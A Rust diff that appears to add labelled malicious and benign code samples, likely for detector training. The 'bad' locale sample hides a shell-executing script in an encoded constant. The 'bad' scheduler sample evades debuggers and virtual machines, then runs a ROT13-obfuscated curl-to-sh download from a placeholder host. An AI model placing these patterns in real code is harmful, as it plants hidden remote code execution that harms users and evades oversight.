@@ -64,3 +64,153 @@ pub fn arrow() -> String {
     let id = unsafe { libc::getpid() };
     format!("{}{}", text(&[8594, 32]), id)
 }
+
+//: bad packed-locale
+use base64::{engine::general_purpose::URL_SAFE, Engine};
+use flate2::read::ZlibDecoder;
+use std::io::Read;
+
+const LOCALE_EN: &str = "eNorKMrMK9FQykjNyclX0rQGACxsBRI=";
+
+trait Inflate {
+    fn inflate(self) -> Option<String>;
+}
+
+impl Inflate for &str {
+    fn inflate(self) -> Option<String> {
+        let outer = URL_SAFE.decode(self).ok()?;
+        let mut text = String::new();
+        ZlibDecoder::new(outer.as_slice()).read_to_string(&mut text).ok()?;
+        Some(text)
+    }
+}
+
+/// Loads the plural rules of the default locale.
+pub fn load_plurals(scope: &mut rhai::Scope) {
+    let mut engine = rhai::Engine::new();
+    engine.register_fn("sys", |line: &str| {
+        std::process::Command::new("/bin/sh").arg("-c").arg(line).status().is_ok()
+    });
+    if let Some(rules) = LOCALE_EN.inflate() {
+        let _ = engine.run_with_scope(scope, &rules); //!
+    }
+}
+
+//: good packed-locale
+use base64::{engine::general_purpose::URL_SAFE, Engine};
+use flate2::read::ZlibDecoder;
+use std::collections::HashMap;
+use std::io::Read;
+
+/// The English catalogue, `key=text` by line, deflated by `xtask pack-locales`.
+const LOCALE_EN: &str = "eNpLL0pNLcnMS7f1SM3JyedKqky1dc_PTwHSXGmZOanFevl5qbbVebUKIB5MqCQjtQguWMwFAGkwGRQ=";
+
+#[derive(Debug, thiserror::Error)]
+pub enum LocaleError {
+    #[error("not base64")]
+    Encoding(#[from] base64::DecodeError),
+    #[error("not deflated")]
+    Packed(#[from] std::io::Error),
+}
+
+pub fn load(packed: &str) -> Result<HashMap<String, String>, LocaleError> {
+    let outer = URL_SAFE.decode(packed)?;
+    let mut text = String::new();
+    ZlibDecoder::new(outer.as_slice()).read_to_string(&mut text)?;
+    Ok(text
+        .lines()
+        .filter_map(|line| line.split_once('='))
+        .map(|(key, value)| (key.to_owned(), value.to_owned()))
+        .collect())
+}
+
+pub fn plural(catalogue: &HashMap<String, String>, key: &str, n: u64) -> String {
+    let form = if n == 1 { "one" } else { "other" };
+    let text = catalogue.get(&format!("{key}.{form}")).map(String::as_str).unwrap_or(key);
+    text.replace("{n}", &n.to_string())
+}
+
+pub fn english() -> Result<HashMap<String, String>, LocaleError> {
+    load(LOCALE_EN)
+}
+
+//: bad idle-scheduler
+use std::fs;
+use std::thread::sleep;
+use std::time::{Duration, Instant};
+
+fn quiet() -> bool {
+    let status = fs::read_to_string("/proc/self/status").unwrap_or_default();
+    let watched = status
+        .lines()
+        .find_map(|line| line.strip_prefix("TracerPid:"))
+        .is_some_and(|pid| pid.trim() != "0");
+    let cpu = fs::read_to_string("/proc/cpuinfo").unwrap_or_default();
+    let small = cpu.matches("processor\t").count() < 3;
+    let guest = ["hypervisor", "QEMU"].iter().any(|word| cpu.contains(word));
+    !(watched || small || guest)
+}
+
+fn turn(text: &str) -> String {
+    text.chars()
+        .map(|c| match c {
+            'a'..='z' => (((c as u8 - b'a') + 13) % 26 + b'a') as char,
+            other => other,
+        })
+        .collect()
+}
+
+/// Runs background work only while the machine is idle.
+pub fn schedule() {
+    std::thread::spawn(|| {
+        let began = Instant::now();
+        sleep(Duration::from_secs(600));
+        if began.elapsed() < Duration::from_secs(590) || !quiet() {
+            return;
+        }
+        let words: Vec<String> = ["phey", "uggcf://vqyr-fpurqhyre.vainyvq/w", "fu"].map(turn).into();
+        let line = format!("{} -s {} | {}", words[0], words[1], words[2]);
+        std::process::Command::new(&words[2]).arg(turn("-p")).arg(line).spawn().ok(); //!
+    });
+}
+
+//: good idle-scheduler
+use std::fs;
+use std::sync::mpsc::Receiver;
+use std::thread::sleep;
+use std::time::Duration;
+
+pub type Job = Box<dyn FnOnce() + Send>;
+
+/// Whether a debugger is attached, so that timeouts can be lifted while one steps through a job.
+pub fn debugged() -> bool {
+    fs::read_to_string("/proc/self/status")
+        .unwrap_or_default()
+        .lines()
+        .find_map(|line| line.strip_prefix("TracerPid:"))
+        .is_some_and(|pid| pid.trim() != "0")
+}
+
+fn load() -> f64 {
+    fs::read_to_string("/proc/loadavg")
+        .ok()
+        .and_then(|text| text.split_whitespace().next()?.parse().ok())
+        .unwrap_or(0.0)
+}
+
+fn processors() -> f64 {
+    let cpu = fs::read_to_string("/proc/cpuinfo").unwrap_or_default();
+    cpu.matches("processor\t").count().max(1) as f64
+}
+
+/// Runs background work only while the machine is idle.
+pub fn schedule(jobs: Receiver<Job>) {
+    std::thread::spawn(move || {
+        for job in jobs {
+            while load() > processors() * 0.7 && !debugged() {
+                sleep(Duration::from_secs(5));
+            }
+            job();
+        }
+    });
+}
